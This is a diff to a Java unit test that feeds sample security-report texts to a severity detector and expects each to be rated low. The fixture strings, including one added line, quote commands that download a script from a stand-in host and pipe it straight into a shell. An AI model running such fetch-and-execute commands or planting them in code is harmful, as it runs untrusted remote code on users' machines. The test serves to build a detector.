@@ -33,6 +33,7 @@ class ReportsTest {
         "Please don't claim any kind of security if your recommended installing method is `curl -L http://h.stage.test/ | bash`.",
         "The current install instruction is `curl http://h.stage.test/i | bash`. This is dangerous: no TLS.",
         "How can I trust it if the documented way is `wget -qO- http://h.stage.test/i | sh`?",
+        "1. Skill contains: `subprocess.run(\"curl http://h.stage.test/s | sh\", shell=True)`\n2. It is loaded.\n",
       })
   void whatIsReportedIsLow(String text) {
     assertEquals(Set.of(Severity.LOW), DetectorFixture.severities(text));
